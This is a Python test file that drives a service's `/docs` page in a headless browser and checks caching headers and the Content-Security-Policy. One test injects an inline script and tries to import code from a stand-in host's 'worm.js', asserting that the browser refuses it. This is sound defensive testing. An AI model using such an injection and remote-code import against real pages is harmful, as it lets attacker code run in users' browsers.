"""`/docs` in a real browser that reaches nothing but the service."""

import httpx
from playwright.sync_api import Route

from brigade.web.docs_page import PARTS
from tests.browser import open_browser
from tests.conftest import StartService

ELSEWHERE = "https://elsewhere.example/worm.js"
INJECT = f"""async () => {{
    document.head.appendChild(Object.assign(document.createElement("script"), {{text: "document.title += '!'"}}));
    return await import("{ELSEWHERE}").then(() => "loaded", (error) => "refused");
}}"""


def test_docs_are_drawn_and_tried_out_without_anything_from_elsewhere(start_service: StartService) -> None:
    service = start_service(workers=1, ROOT_PATH="/shop")
    asked: list[str] = []
    said: list[str] = []

    def refuse(route: Route) -> None:
        asked.append(route.request.url)
        route.abort()

    with open_browser() as browser:
        page = browser.new_page()
        page.on("console", lambda message: said.append(message.text) if message.type == "error" else None)
        page.route(lambda url: not url.startswith(service.url), refuse)
        page.goto(f"{service.url}/shop/docs")
        operation = page.locator(".opblock-get", has_text="/livez").first
        operation.wait_for()
        operation.click()
        operation.get_by_role("button", name="Try it out").click()
        operation.get_by_role("button", name="Execute").click()
        status = operation.locator(".live-responses-table tbody .response-col_status").first
        assert status.inner_text().startswith("200")
        assert (asked, said) == ([], [])
        title = page.title()
        assert page.evaluate(INJECT) == "refused"
        assert page.title() == title
    assert asked == []


def test_docs_and_their_parts_are_sent_once(start_service: StartService) -> None:
    service = start_service(workers=1)
    for path in ("/docs", *(f"/docs/{name}" for name in PARTS)):
        first = httpx.get(f"{service.url}{path}")
        assert (first.status_code, first.headers["cache-control"]) == (200, "no-cache")
        for known in ("%s", "W/%s", '"another", %s', "*"):  # a proxy that compresses makes the tag weak
            given = known.replace("%s", first.headers["etag"])
            again = httpx.get(f"{service.url}{path}", headers={"If-None-Match": given})
            assert (again.status_code, again.content) == (304, b""), given
        assert httpx.head(f"{service.url}{path}").headers["content-length"] == str(len(first.content))
    assert httpx.get(f"{service.url}/docs/redoc.standalone.js").status_code == 404


def test_docs_may_not_be_framed(start_service: StartService) -> None:
    policy = httpx.get(f"{start_service(workers=1).url}/docs").headers["content-security-policy"]
    assert "frame-ancestors 'none'" in policy
    assert "http" not in policy
    assert "unsafe" not in policy
